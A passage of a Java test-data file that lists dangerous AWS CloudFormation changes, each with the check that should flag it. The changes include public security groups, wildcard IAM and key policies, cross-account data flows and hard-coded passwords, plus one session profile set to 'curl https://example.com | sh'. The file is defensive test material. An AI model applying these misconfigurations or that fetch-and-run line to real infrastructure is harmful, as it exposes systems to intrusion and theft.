package scaleup.proof;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.MissingNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;
import scaleup.proof.DangerousChangesTest.Change;
import scaleup.proof.DangerousChangesTest.Templates;

/** Changes of one value, and resources that are added or gone: dangerous ones with the proof that finds each, and harmless ones. */
final class SettingChanges {
    private static final String DATABASE = "AWS::RDS::DBInstance";
    private static final String GROUP = "AWS::AutoScaling::AutoScalingGroup";
    private static final String LAUNCHED = "AWS::EC2::LaunchTemplate";
    private static final String FUNCTION = "AWS::Lambda::Function";
    private static final String KEY = "AWS::KMS::Key";
    private static final String RULE = "AWS::Events::Rule";
    private static final String FRONT_DOOR = "AWS::ElasticLoadBalancingV2::LoadBalancer";
    private static final String LISTENER = "AWS::ElasticLoadBalancingV2::Listener";
    private static final String TARGETS = "AWS::ElasticLoadBalancingV2::TargetGroup";
    private static final String SECRET = "AWS::SecretsManager::Secret";
    private static final String ROLE = "AWS::IAM::Role";
    private static final String ANOTHER_ACCOUNT = "999999999999";

    private SettingChanges() {}

    private static Change of(String proof, String words, Consumer<Templates> made) {
        return new Change(words, proof, made);
    }

    /** Another value of the first resource of a type; none takes it away. */
    private static Change set(String proof, String words, String part, String type, String pointer, String json) {
        return of(proof, words, templates -> put(templates.first(part, type), "/Properties" + pointer, json));
    }

    static void put(ObjectNode resource, String pointer, String json) {
        int last = pointer.lastIndexOf('/');
        String name = pointer.substring(last + 1);
        JsonNode holder = resource.at(pointer.substring(0, last));
        JsonNode value = json.isEmpty() ? MissingNode.getInstance() : Templates.any(json);
        if (holder instanceof ArrayNode array) {
            if (value.isMissingNode()) {
                array.remove(Integer.parseInt(name));
            } else if (Integer.parseInt(name) == array.size()) {
                array.add(value);
            } else {
                array.set(Integer.parseInt(name), value);
            }
            return;
        }
        var object = holder.isMissingNode() ? resource.withObject(pointer.substring(0, last)) : (ObjectNode) holder;
        if (value.isMissingNode()) {
            object.remove(name);
        } else {
            object.set(name, value);
        }
    }

    /** Another parameter of AWS Systems Manager from which the template has its image. */
    private static Change image(String words, String parameter) {
        return of("servers", words, templates -> {
            String name = templates
                    .first("Web", LAUNCHED)
                    .at("/Properties/LaunchTemplateData/ImageId/Ref")
                    .asText();
            ((ObjectNode) templates.parts().get("Web"))
                    .withObject("/Parameters/" + name)
                    .put("Default", parameter);
        });
    }

    private static Change add(String proof, String words, String part, String type, String properties) {
        return of(
                proof,
                words,
                templates -> templates.add(
                        part, "Another", "{'Type': '%s', 'Properties': {%s}}".formatted(type, properties)));
    }

    private static Change gone(String proof, String words, String part, String type) {
        return of(proof, words, templates -> templates.remove(part, templates.id(part, type)));
    }

    private static Change opened(String words, String direction, String group, String rule) {
        return of(
                "connections",
                words,
                templates -> templates.add(
                        "Network",
                        "Opened",
                        "{'Type': 'AWS::EC2::SecurityGroup%s', 'Properties': {'GroupId': {'Fn::GetAtt': ['%s', 'GroupId']}, %s}}"
                                .formatted(direction, templates.group(group), rule)));
    }

    private static Change route(String words, String properties) {
        return of(
                "routes",
                words,
                templates -> templates.add(
                        "Network",
                        "Another",
                        "{'Type': 'AWS::EC2::Route', 'Properties': {'RouteTableId': {'Ref': '%s'}, %s}}"
                                .formatted(templates.id("Network", "AWS::EC2::RouteTable"), properties)));
    }

    private static Change attribute(String proof, String words, String type, String key, String value) {
        return of(proof, words, templates -> {
            for (String list : List.of("LoadBalancerAttributes", "TargetGroupAttributes")) {
                for (JsonNode each : templates.properties("LoadBalancer", type).path(list)) {
                    if (each.path("Key").asText().equals(key)) {
                        ((ObjectNode) each).put("Value", value);
                    }
                }
            }
        });
    }

    private static Change variable(String words, String name, String json) {
        return set("passwords", words, "Web", FUNCTION, "/Environment/Variables/" + name, json);
    }

    /** A statement more in the policies of the first role of the web tier. */
    private static Change statement(String proof, String words, String statement) {
        return of(proof, words, templates -> ((ArrayNode)
                        templates.properties("Web", ROLE).path("Policies"))
                .add(Templates.any(
                        "{'PolicyName': 'more', 'PolicyDocument': {'Version': '2012-10-17', 'Statement': [%s]}}"
                                .formatted(statement))));
    }

    private static Change trust(String proof, String words, String principal) {
        return set(proof, words, "Web", ROLE, "/AssumeRolePolicyDocument/Statement/0/Principal", principal);
    }

    private static final String OPEN =
            "'PolicyDocument': {'Statement': [{'Effect': 'Allow', 'Principal': '*', 'Action': '%s', 'Resource': '*'}]}";

    static Stream<Change> dangerous() {
        return Stream.of(
                        network(),
                        kinds(),
                        availability(),
                        data(),
                        secrets(),
                        functions(),
                        access(),
                        templates(),
                        later(),
                        further(),
                        behaviour(),
                        properties())
                .flatMap(changes -> changes);
    }

    private static Stream<Change> network() {
        return Stream.of(
                opened(
                        "the database out to everywhere on 443",
                        "Egress",
                        "Database",
                        "'CidrIp': '0.0.0.0/0', 'IpProtocol': 'tcp', 'FromPort': 443, 'ToPort': 443"),
                opened(
                        "IPv6 from everywhere to the database",
                        "Ingress",
                        "Database",
                        "'CidrIpv6': '::/0', 'IpProtocol': 'tcp', 'FromPort': 3306, 'ToPort': 3306"),
                opened(
                        "IPv6 out of application servers",
                        "Egress",
                        "Application",
                        "'CidrIpv6': '::/0', 'IpProtocol': '-1'"),
                opened(
                        "ICMP from everywhere to load balancers",
                        "Ingress",
                        "LoadBalancer",
                        "'CidrIp': '0.0.0.0/0', 'IpProtocol': 'icmp', 'FromPort': -1, 'ToPort': -1"),
                opened(
                        "half of all addresses let into web servers",
                        "Ingress",
                        "Web",
                        "'CidrIp': '128.0.0.0/1', 'IpProtocol': 'tcp', 'FromPort': 8080, 'ToPort': 8080"),
                opened(
                        "another account's group let into the database",
                        "Ingress",
                        "Database",
                        "'SourceSecurityGroupId': 'sg-0123456789abcdef0', 'SourceSecurityGroupOwnerId': '999999999999', 'IpProtocol': 'tcp', 'FromPort': 3306, 'ToPort': 3306"),
                of(
                        "connections",
                        "a rule that lets web servers reach each other",
                        templates -> put(
                                (ObjectNode) templates
                                        .parts()
                                        .get("Network")
                                        .path("Resources")
                                        .path(templates.group("Web")),
                                "/Properties/SecurityGroupIngress",
                                "[{'CidrIp': '0.0.0.0/0', 'IpProtocol': 'tcp', 'FromPort': 8080, 'ToPort': 8080}]")),
                set(
                        "connections",
                        "web servers in somebody else's group, too",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/SecurityGroupIds/1",
                        "'sg-0123456789abcdef0'"),
                set(
                        "connections",
                        "the network load balancer without a group",
                        "LoadBalancer",
                        FRONT_DOOR,
                        "/SecurityGroups",
                        "[]"),
                set(
                        "connections",
                        "the database in somebody else's group, too",
                        "Database",
                        DATABASE,
                        "/VPCSecurityGroups/1",
                        "'sg-0123456789abcdef0'"),
                of("connections", "the database's function outside of the VPC", templates -> templates
                        .resources("Database")
                        .forEach(resource -> ((ObjectNode) resource.path("Properties")).remove("VpcConfig"))),
                set(
                        "connections",
                        "interfaces with groups of their own",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/NetworkInterfaces",
                        "[{'DeviceIndex': 0, 'Groups': ['sg-0123456789abcdef0']}]"),
                route(
                        "a route to a transit gateway",
                        "'DestinationCidrBlock': '10.99.0.0/16', 'TransitGatewayId': 'tgw-0123456789abcdef0'"),
                route(
                        "a route through somebody else's interface",
                        "'DestinationCidrBlock': '128.0.0.0/1', 'NetworkInterfaceId': 'eni-0123456789abcdef0'"),
                route(
                        "a route through a server",
                        "'DestinationCidrBlock': '192.0.2.0/24', 'InstanceId': 'i-0123456789abcdef0'"),
                route(
                        "a route to a firewall's endpoint",
                        "'DestinationCidrBlock': '198.51.100.0/24', 'VpcEndpointId': 'vpce-0123456789abcdef0'"),
                route(
                        "IPv6 to the internet",
                        "'DestinationIpv6CidrBlock': '::/0', 'EgressOnlyInternetGatewayId': 'eigw-0123456789abcdef0'"),
                of("routes", "private subnets with the public ones' route table", templates -> {
                    String open = templates.idOf("Network", "AWS::EC2::Route", route -> route.at("/Properties")
                            .has("GatewayId"));
                    JsonNode table = templates
                            .resources("Network")
                            .path(open)
                            .at("/Properties/RouteTableId")
                            .deepCopy();
                    templates.resources("Network").forEach(resource -> {
                        if (resource.path("Type").asText().equals("AWS::EC2::SubnetRouteTableAssociation")) {
                            ((ObjectNode) resource.path("Properties")).set("RouteTableId", table);
                        }
                    });
                }),
                set(
                        "public-addresses",
                        "subnets that assign IPv6 addresses",
                        "Network",
                        "AWS::EC2::Subnet",
                        "/AssignIpv6AddressOnCreation",
                        "true"),
                set(
                        "public-addresses",
                        "a network load balancer for IPv6",
                        "LoadBalancer",
                        FRONT_DOOR,
                        "/IpAddressType",
                        "'dualstack'"),
                set("public-addresses", "a database with IPv6", "Database", DATABASE, "/NetworkType", "'DUAL'"),
                set(
                        "public-addresses",
                        "an elastic address for a server",
                        "Network",
                        "AWS::EC2::EIP",
                        "/InstanceId",
                        "'i-0123456789abcdef0'"),
                set(
                        "listeners",
                        "the network load balancer by UDP as well",
                        "LoadBalancer",
                        LISTENER,
                        "/Protocol",
                        "'TCP_UDP'"),
                set(
                        "listeners",
                        "the network load balancer terminates TLS by an old policy",
                        "LoadBalancer",
                        LISTENER,
                        "/Protocol",
                        "'TLS'"),
                set(
                        "network-load-balancer",
                        "no health checks of load balancers",
                        "LoadBalancer",
                        TARGETS,
                        "/HealthCheckEnabled",
                        "false"),
                set(
                        "network-load-balancer",
                        "health checks that only connect",
                        "LoadBalancer",
                        TARGETS,
                        "/HealthCheckProtocol",
                        "'TCP'"),
                set(
                        "network-load-balancer",
                        "a health check on another page",
                        "LoadBalancer",
                        TARGETS,
                        "/HealthCheckPath",
                        "'/'"),
                set(
                        "network-load-balancer",
                        "a load balancer that answers 503 counts as healthy",
                        "LoadBalancer",
                        TARGETS,
                        "/Matcher/HttpCode",
                        "'200-599'"),
                attribute(
                        "network-load-balancer",
                        "connections without the client's address",
                        TARGETS,
                        "proxy_protocol_v2.enabled",
                        "false"),
                attribute(
                        "network-load-balancer",
                        "connections from the client's address",
                        TARGETS,
                        "preserve_client_ip.enabled",
                        "true"),
                of("network-load-balancer", "HTTPS sent to the port for HTTP", templates -> {
                    List<ObjectNode> listeners = templates.all("LoadBalancer", LISTENER);
                    listeners
                            .get(0)
                            .withObject("/Properties")
                            .set(
                                    "DefaultActions",
                                    listeners
                                            .get(1)
                                            .at("/Properties/DefaultActions")
                                            .deepCopy());
                }),
                set("names", "a zone that is public", "Network", "AWS::Route53::HostedZone", "/VPCs", ""),
                set(
                        "names",
                        "a zone that another VPC sees, too",
                        "Network",
                        "AWS::Route53::HostedZone",
                        "/VPCs/1",
                        "{'VPCId': 'vpc-0123456789abcdef0', 'VPCRegion': 'eu-west-1'}"),
                add(
                        "names",
                        "a record that leads to somebody else's server",
                        "Network",
                        "AWS::Route53::RecordSet",
                        "'HostedZoneId': {'Ref': 'Zone'}, 'Name': 'web.prod.scaleup.internal', 'Type': 'A', 'TTL': '5', 'ResourceRecords': ['192.0.2.1']"));
    }

    private static Stream<Change> kinds() {
        return Stream.of(
                add("kinds", "a network ACL", "Network", "AWS::EC2::NetworkAcl", "'VpcId': 'vpc-1'"),
                add(
                        "kinds",
                        "a connection to another VPC",
                        "Network",
                        "AWS::EC2::VPCPeeringConnection",
                        "'VpcId': 'vpc-1', 'PeerVpcId': 'vpc-2'"),
                add("kinds", "a virtual private network", "Network", "AWS::EC2::VPNGateway", "'Type': 'ipsec.1'"),
                add(
                        "kinds",
                        "IPv6 addresses for the VPC",
                        "Network",
                        "AWS::EC2::VPCCidrBlock",
                        "'VpcId': 'vpc-1', 'AmazonProvidedIpv6CidrBlock': true"),
                add(
                        "kinds",
                        "an elastic address that is given to a server",
                        "Network",
                        "AWS::EC2::EIPAssociation",
                        "'InstanceId': 'i-1'"),
                add(
                        "kinds",
                        "the network load balancer offered to other accounts",
                        "Network",
                        "AWS::EC2::VPCEndpointService",
                        "'NetworkLoadBalancerArns': []"),
                add("kinds", "a server outside of all groups", "Web", "AWS::EC2::Instance", "'ImageId': 'ami-1'"),
                add("kinds", "a bucket", "Web", "AWS::S3::Bucket", ""),
                add(
                        "kinds",
                        "a bucket's policy open to all",
                        "Web",
                        "AWS::S3::BucketPolicy",
                        "'Bucket': 'b', " + OPEN.formatted("s3:GetObject")),
                add(
                        "kinds",
                        "a table that is not encrypted",
                        "Database",
                        "AWS::DynamoDB::Table",
                        "'SSESpecification': {'SSEEnabled': false}"),
                add("kinds", "a cache cluster", "Database", "AWS::ElastiCache::ReplicationGroup", ""),
                add("kinds", "a user", "Operations", "AWS::IAM::User", "'UserName': 'deploy'"),
                add("kinds", "a user's access key", "Operations", "AWS::IAM::AccessKey", "'UserName': 'deploy'"),
                add(
                        "kinds",
                        "an identity provider",
                        "Operations",
                        "AWS::IAM::OIDCProvider",
                        "'Url': 'https://example.com'"),
                add("kinds", "a function with an address of its own", "Web", "AWS::Lambda::Url", "'AuthType': 'NONE'"),
                add("kinds", "a function that reads another's queue", "Web", "AWS::Lambda::EventSourceMapping", ""),
                add(
                        "kinds",
                        "an API in front of a function",
                        "Web",
                        "AWS::ApiGatewayV2::Api",
                        "'ProtocolType': 'HTTP'"),
                add(
                        "kinds",
                        "an event bus open to others",
                        "Operations",
                        "AWS::Events::EventBusPolicy",
                        "'Principal': '*'"),
                add(
                        "kinds",
                        "logs that are sent elsewhere",
                        "Web",
                        "AWS::Logs::SubscriptionFilter",
                        "'DestinationArn': 'arn:aws:logs:eu-west-1:999999999999:destination:d'"),
                add(
                        "kinds",
                        "commands that servers run by Systems Manager",
                        "Web",
                        "AWS::SSM::Association",
                        "'Name': 'AWS-RunShellScript'"),
                add(
                        "kinds",
                        "a stack within the stack",
                        "Web",
                        "AWS::CloudFormation::Stack",
                        "'TemplateURL': 'https://example.com/a'"),
                add(
                        "kinds",
                        "a custom resource with a type of its own",
                        "Web",
                        "Custom::Thing",
                        "'ServiceToken': 'arn:aws:lambda:eu-west-1:999999999999:function:f'"),
                add("kinds", "a resource of an unknown type", "Web", "Acme::Database::Thing", ""));
    }

    private static Stream<Change> availability() {
        String refresh = "/UpdatePolicy/AutoScalingInstanceRefresh";
        return Stream.of(
                set("zones", "a database without a standby", "Database", DATABASE, "/MultiAZ", "false"),
                set("zones", "one web server", "Web", GROUP, "/MinSize", "'1'"),
                set("zones", "no application server at night", "Application", GROUP, "/MinSize", "'0'"),
                of("zones", "all subnets in one zone", templates -> templates
                        .all("Network", "AWS::EC2::Subnet")
                        .forEach(subnet -> put(
                                subnet, "/Properties/AvailabilityZone", "{'Fn::Select': [0, {'Fn::GetAZs': ''}]}"))),
                attribute(
                        "zones",
                        "no load balancing across zones",
                        FRONT_DOOR,
                        "load_balancing.cross_zone.enabled",
                        "false"),
                set(
                        "roll-outs",
                        "servers that never get ready count as ready",
                        "Web",
                        GROUP,
                        "/LifecycleHookSpecificationList/0/DefaultResult",
                        "'CONTINUE'"),
                set(
                        "roll-outs",
                        "servers that end without draining",
                        "Web",
                        GROUP,
                        "/LifecycleHookSpecificationList/1",
                        ""),
                set("roll-outs", "no lifecycle hooks", "Web", GROUP, "/LifecycleHookSpecificationList", ""),
                set("roll-outs", "servers that are never renewed", "Web", GROUP, "/MaxInstanceLifetime", ""),
                set(
                        "roll-outs",
                        "servers that nobody may replace",
                        "Web",
                        GROUP,
                        "/NewInstancesProtectedFromScaleIn",
                        "true"),
                set(
                        "roll-outs",
                        "sick servers go before new ones come",
                        "Web",
                        GROUP,
                        "/InstanceMaintenancePolicy/MinHealthyPercentage",
                        "0"),
                of("roll-outs", "no roll-out at all", templates -> templates
                        .first("Web", GROUP)
                        .remove("UpdatePolicy")),
                of(
                        "roll-outs",
                        "a group that is replaced as a whole",
                        templates -> put(
                                templates.first("Web", GROUP),
                                "/UpdatePolicy/AutoScalingReplacingUpdate",
                                "{'WillReplace': true}")),
                of(
                        "roll-outs",
                        "a roll-out with an empty list of alarms",
                        templates -> put(
                                templates.first("Web", GROUP),
                                refresh + "/Preferences/AlarmSpecification/Alarms",
                                "[]")),
                of(
                        "roll-outs",
                        "a deployment that waits for no server",
                        templates -> templates.remove(
                                "Web", templates.idOf("Web", "AWS::CloudFormation::CustomResource", custom -> custom.at(
                                                "/Properties")
                                        .has("LaunchTemplateVersion")))),
                set(
                        "logs",
                        "flow logs of accepted traffic alone",
                        "Network",
                        "AWS::EC2::FlowLog",
                        "/TrafficType",
                        "'ACCEPT'"),
                gone("logs", "no flow logs", "Network", "AWS::EC2::FlowLog"),
                set("logs", "a log that is kept for ever", "Web", "AWS::Logs::LogGroup", "/RetentionInDays", ""),
                set("logs", "a function that logs elsewhere", "Web", FUNCTION, "/LoggingConfig", ""),
                set("logs", "an alarm that tells nobody", "Web", "AWS::CloudWatch::Alarm", "/ActionsEnabled", "false"));
    }

    private static Stream<Change> data() {
        return Stream.of(
                set(
                        "encryption",
                        "a database that is not encrypted",
                        "Database",
                        DATABASE,
                        "/StorageEncrypted",
                        "false"),
                set("encryption", "a key that is never rotated", "Database", KEY, "/EnableKeyRotation", "false"),
                set("encryption", "a key that is switched off", "Database", KEY, "/Enabled", "false"),
                set(
                        "encryption",
                        "a key that can be deleted within a week",
                        "Database",
                        KEY,
                        "/PendingWindowInDays",
                        "7"),
                set(
                        "encryption",
                        "TLS 1.0 allowed at the database",
                        "Database",
                        "AWS::RDS::DBParameterGroup",
                        "/Parameters/tls_version",
                        "'TLSv1,TLSv1.2'"),
                set(
                        "encryption",
                        "AWS's default parameters for the database",
                        "Database",
                        DATABASE,
                        "/DBParameterGroupName",
                        "'default.mysql8.4'"),
                set(
                        "encryption",
                        "sessions that are logged without encryption",
                        "Network",
                        "AWS::SSM::Document",
                        "/Content/inputs/cloudWatchEncryptionEnabled",
                        "false"),
                set(
                        "encryption",
                        "a command that each session runs",
                        "Network",
                        "AWS::SSM::Document",
                        "/Content/inputs/shellProfile",
                        "{'linux': 'curl https://example.com | sh'}"),
                set(
                        "encryption",
                        "volumes that don't say whether they are encrypted",
                        "Application",
                        LAUNCHED,
                        "/LaunchTemplateData/BlockDeviceMappings/0/Ebs/Encrypted",
                        ""),
                attribute(
                        "retention",
                        "a network load balancer without deletion protection",
                        FRONT_DOOR,
                        "deletion_protection.enabled",
                        "false"),
                set(
                        "retention",
                        "backups that go with the database",
                        "Database",
                        DATABASE,
                        "/DeleteAutomatedBackups",
                        "true"),
                set(
                        "backups",
                        "a database without a word on backups",
                        "Database",
                        DATABASE,
                        "/BackupRetentionPeriod",
                        ""));
    }

    private static Stream<Change> secrets() {
        return Stream.of(
                variable("a password in a variable", "DATABASE_PASSWORD", "'correct horse battery staple'"),
                variable(
                        "a secret's value in a variable",
                        "GREETING",
                        "{'Fn::Sub': '{{resolve:secretsmanager:a:SecretString:password}}'}"),
                variable("an access key in a variable", "ACCESS", "'AKIAIOSFODNN7EXAMPLE'"),
                variable("a password in a URL", "DATABASE_URL", "'mysql://root:hunter2@db.example.com/shop'"),
                set(
                        "passwords",
                        "a private key in user data",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/UserData",
                        "{'Fn::Base64': '-----BEGIN RSA PRIVATE KEY-----'}"),
                set("passwords", "a secret's value in the template", "LoadBalancer", SECRET, "/SecretString", "'{}'"),
                set(
                        "passwords",
                        "a secret that is replicated to another region",
                        "Database",
                        SECRET,
                        "/ReplicaRegions",
                        "[{'Region': 'us-east-1'}]"),
                set("passwords", "a short password", "Database", SECRET, "/GenerateSecretString/PasswordLength", "8"),
                of("passwords", "a password among a stack's outputs", templates -> ((ObjectNode)
                                templates.parts().get("Database"))
                        .withObject("/Outputs")
                        .set(
                                "Password",
                                Templates.any("{'Value': '{{resolve:secretsmanager:a:SecretString:password}}'}"))),
                of("passwords", "a password as a parameter's default", templates -> ((ObjectNode)
                                templates.parts().get("Database"))
                        .withObject("/Parameters")
                        .set(
                                "DatabasePassword",
                                Templates.any("{'Type': 'String', 'NoEcho': true, 'Default': 'hunter2'}"))),
                of(
                        "passwords",
                        "a password in metadata",
                        templates -> put(templates.first("Database", DATABASE), "/Metadata/password", "'hunter2'")),
                add(
                        "passwords",
                        "a password in the parameter store",
                        "Web",
                        "AWS::SSM::Parameter",
                        "'Name': '/shop/database-password', 'Type': 'String', 'Value': 'hunter2'"),
                gone(
                        "passwords",
                        "a password that is never rotated",
                        "Database",
                        "AWS::SecretsManager::RotationSchedule"),
                set(
                        "passwords",
                        "a password that is rotated every three years",
                        "Database",
                        "AWS::SecretsManager::RotationSchedule",
                        "/RotationRules/AutomaticallyAfterDays",
                        "1000"),
                set(
                        "passwords",
                        "a password that another account's function rotates",
                        "Database",
                        "AWS::SecretsManager::RotationSchedule",
                        "/RotationLambdaARN",
                        "'arn:aws:lambda:eu-west-1:999999999999:function:f'"));
    }

    private static Stream<Change> functions() {
        return Stream.of(
                set(
                        "functions",
                        "a function with somebody else's code",
                        "Web",
                        FUNCTION,
                        "/Code/S3Bucket",
                        "'somebody'"),
                set(
                        "functions",
                        "a function with its code in the template",
                        "Web",
                        FUNCTION,
                        "/Code/ZipFile",
                        "'exports.handler = () => 1'"),
                set(
                        "functions",
                        "a layer of another account's",
                        "Web",
                        FUNCTION,
                        "/Layers",
                        "['arn:aws:lambda:eu-west-1:999999999999:layer:l:1']"),
                set("functions", "a function that never runs", "Web", FUNCTION, "/ReservedConcurrentExecutions", "0"),
                set("functions", "a schedule that is switched off", "Web", RULE, "/State", "'DISABLED'"),
                of(
                        "functions",
                        "no schedule",
                        templates -> templates.remove("Web", templates.idOf("Web", RULE, rule -> rule.at("/Properties")
                                .has("ScheduleExpression")))),
                set(
                        "functions",
                        "events for another account",
                        "Web",
                        RULE,
                        "/Targets/0/Arn",
                        "'arn:aws:events:eu-west-1:999999999999:event-bus/default'"),
                set(
                        "functions",
                        "events for another account as well",
                        "Web",
                        RULE,
                        "/Targets/1",
                        "{'Id': 'more', 'Arn': 'arn:aws:sqs:eu-west-1:999999999999:q'}"),
                of("functions", "a rule that may not call its function", templates -> templates
                        .all("Web", "AWS::Lambda::Permission")
                        .forEach(permission -> put(
                                permission,
                                "/Properties/SourceArn",
                                "'arn:aws:events:eu-west-1:123456789012:rule/other'"))),
                set(
                        "functions",
                        "a custom resource that another account answers",
                        "Web",
                        "AWS::CloudFormation::CustomResource",
                        "/ServiceToken",
                        "'arn:aws:lambda:eu-west-1:999999999999:function:f'"),
                set(
                        "functions",
                        "failed events for another account",
                        "Web",
                        "AWS::Lambda::EventInvokeConfig",
                        "/DestinationConfig/OnFailure/Destination",
                        "'arn:aws:sqs:eu-west-1:999999999999:q'"),
                set(
                        "functions",
                        "a function's results sent to another account",
                        "Web",
                        "AWS::Lambda::EventInvokeConfig",
                        "/DestinationConfig/OnSuccess",
                        "{'Destination': 'arn:aws:sqs:eu-west-1:999999999999:q'}"),
                set("servers", "servers with a key pair", "Web", LAUNCHED, "/LaunchTemplateData/KeyName", "'admin'"),
                set(
                        "servers",
                        "servers that AWS may reclaim",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/InstanceMarketOptions",
                        "{'MarketType': 'spot'}"),
                image("an image from somebody else's parameter", "/somebody/image"),
                image(
                        "an image without what servers need",
                        "/aws/service/ami-amazon-linux-latest/al2023-ami-minimal-kernel-default-arm64"),
                set(
                        "servers",
                        "an image that each launch looks up",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/ImageId",
                        "'resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64'"),
                set(
                        "servers",
                        "servers with an instance profile by name",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/IamInstanceProfile",
                        "{'Name': 'admin'}"),
                set(
                        "servers",
                        "a launch template's version that stays",
                        "Web",
                        GROUP,
                        "/LaunchTemplate/Version",
                        "'1'"),
                set(
                        "servers",
                        "somebody else's launch template",
                        "Web",
                        GROUP,
                        "/LaunchTemplate",
                        "{'LaunchTemplateId': 'lt-0123456789abcdef0', 'Version': '1'}"),
                set(
                        "servers",
                        "a group of several instance types",
                        "Web",
                        GROUP,
                        "/MixedInstancesPolicy",
                        "{'LaunchTemplate': {}}"),
                set(
                        "instance-metadata",
                        "metadata that containers can reach",
                        "Web",
                        LAUNCHED,
                        "/LaunchTemplateData/MetadataOptions/HttpPutResponseHopLimit",
                        "2"));
    }

    private static Stream<Change> access() {
        return Stream.of(
                set(
                        "permissions",
                        "a function with a role of which nothing is known",
                        "Web",
                        FUNCTION,
                        "/Role",
                        "'arn:aws:iam::123456789012:role/admin'"),
                set(
                        "permissions",
                        "servers with a role of which nothing is known",
                        "Web",
                        "AWS::IAM::InstanceProfile",
                        "/Roles/0",
                        "'admin'"),
                set(
                        "permissions",
                        "a database that writes files by a role",
                        "Database",
                        DATABASE,
                        "/AssociatedRoles",
                        "[{'FeatureName': 's3Export', 'RoleArn': 'arn:aws:iam::123456789012:role/export'}]"),
                statement(
                        "escalation",
                        "a permission to pass any role",
                        "{'Effect': 'Allow', 'Action': 'iam:PassRole', 'Resource': '*'}"),
                statement(
                        "permissions",
                        "all resources but one",
                        "{'Effect': 'Allow', 'Action': 's3:GetObject', 'NotResource': 'arn:aws:s3:::a/b'}"),
                statement(
                        "actions",
                        "all actions but some",
                        "{'Effect': 'Allow', 'NotAction': 'iam:*', 'Resource': '*'}"),
                statement("actions", "everything", "{'Effect': 'Allow', 'Action': '*', 'Resource': '*'}"),
                statement(
                        "wildcards",
                        "every secret, by a pattern of actions",
                        "{'Effect': 'Allow', 'Action': 'secretsmanager:Get*', 'Resource': '*'}"),
                statement(
                        "permissions",
                        "a permission to read Parameter Store",
                        "{'Effect': 'Allow', 'Action': 'ssm:GetParameter', 'Resource': 'arn:aws:ssm:eu-west-1:123456789012:parameter/a'}"),
                trust("principals", "a role that anyone may assume, in a list", "'*'"),
                trust(
                        "principals",
                        "a role for another account's user",
                        "{'AWS': 'arn:aws:iam::%s:user/a'}".formatted(ANOTHER_ACCOUNT)),
                trust(
                        "permissions",
                        "a role for anybody with a Google account",
                        "{'Federated': 'accounts.google.com'}"),
                trust(
                        "permissions",
                        "a role for the whole account",
                        "{'AWS': {'Fn::Sub': 'arn:${AWS::Partition}:iam::${AWS::AccountId}:root'}}"),
                trust(
                        "permissions",
                        "a role that one more service may assume",
                        "{'Service': ['ec2.amazonaws.com', 'ssm.amazonaws.com']}"),
                of(
                        "principals",
                        "a key that anyone may use",
                        templates -> ((ArrayNode)
                                        templates.properties("Database", KEY).at("/KeyPolicy/Statement"))
                                .add(
                                        Templates.any(
                                                "{'Effect': 'Allow', 'Principal': {'AWS': '*'}, 'Action': 'kms:Decrypt', 'Resource': '*'}"))),
                of(
                        "permissions",
                        "a key that anyone may use, under a condition that everybody meets",
                        templates -> ((ArrayNode)
                                        templates.properties("Database", KEY).at("/KeyPolicy/Statement"))
                                .add(
                                        Templates.any(
                                                "{'Effect': 'Allow', 'Principal': {'AWS': '*'}, 'Action': 'kms:Decrypt', 'Resource': '*', 'Condition': {'StringLike': {'aws:userid': '*'}}}"))),
                add(
                        "principals",
                        "a topic open to all",
                        "Operations",
                        "AWS::SNS::TopicPolicy",
                        "'Topics': ['t'], " + OPEN.formatted("sns:Publish")),
                add(
                        "principals",
                        "a secret that all may read",
                        "Database",
                        "AWS::SecretsManager::ResourcePolicy",
                        "'SecretId': 's', 'ResourcePolicy': {'Statement': [{'Effect': 'Allow', 'Principal': '*', 'Action': 'secretsmanager:GetSecretValue', 'Resource': '*'}]}"),
                add(
                        "permissions",
                        "a function that may be called by an address",
                        "Web",
                        "AWS::Lambda::Permission",
                        "'Action': 'lambda:InvokeFunctionUrl', 'FunctionUrlAuthType': 'NONE', 'Principal': '*', 'FunctionName': 'f'"),
                add(
                        "permissions",
                        "a function that another account may call",
                        "Web",
                        "AWS::Lambda::Permission",
                        "'Action': 'lambda:InvokeFunction', 'Principal': '%s', 'FunctionName': 'f'"
                                .formatted(ANOTHER_ACCOUNT)),
                add(
                        "permissions",
                        "a policy for a role outside of the stack",
                        "Web",
                        "AWS::IAM::RolePolicy",
                        "'RoleName': 'admin', 'PolicyName': 'p', 'PolicyDocument': {'Statement': [{'Effect': 'Allow', 'Action': 's3:GetObject', 'Resource': 'arn:aws:s3:::a/b'}]}"));
    }

    private static Stream<Change> templates() {
        return Stream.of(
                of("templates", "a template with a transform", templates -> ((ObjectNode)
                                templates.parts().get("Web"))
                        .put("Transform", "AWS::LanguageExtensions")),
                of("templates", "flow logs on a condition", templates -> templates
                        .first("Network", "AWS::EC2::FlowLog")
                        .put("Condition", "Never")),
                set(
                        "templates",
                        "a value that a condition decides",
                        "Web",
                        GROUP,
                        "/MaxSize",
                        "{'Fn::If': ['A', '3', '300']}"),
                of(
                        "templates",
                        "an alarm that stops roll-outs is gone",
                        templates -> templates.remove(
                                "Web",
                                templates
                                        .first("Web", GROUP)
                                        .at(
                                                "/UpdatePolicy/AutoScalingInstanceRefresh/Preferences/AlarmSpecification/Alarms/0/Ref")
                                        .asText())),
                gone("templates", "the key of the logs is gone", "Network", KEY),
                of(
                        "templates",
                        "an alarm that another alarm looks at is gone",
                        templates -> templates.remove(
                                "LoadBalancer",
                                templates.idOf("LoadBalancer", "AWS::CloudWatch::Alarm", alarm -> alarm.at(
                                                "/Properties/AlarmName")
                                        .asText()
                                        .endsWith("-unhealthy")))));
    }

    /** What only a comparison shows. */
    private static Stream<Change> later() {
        return Stream.of(
                set("changes", "backups that are kept for a day", "Database", DATABASE, "/BackupRetentionPeriod", "1"),
                set("changes", "logs that are kept for a day", "Web", "AWS::Logs::LogGroup", "/RetentionInDays", "1"),
                set(
                        "changes",
                        "failed events that are kept for a minute",
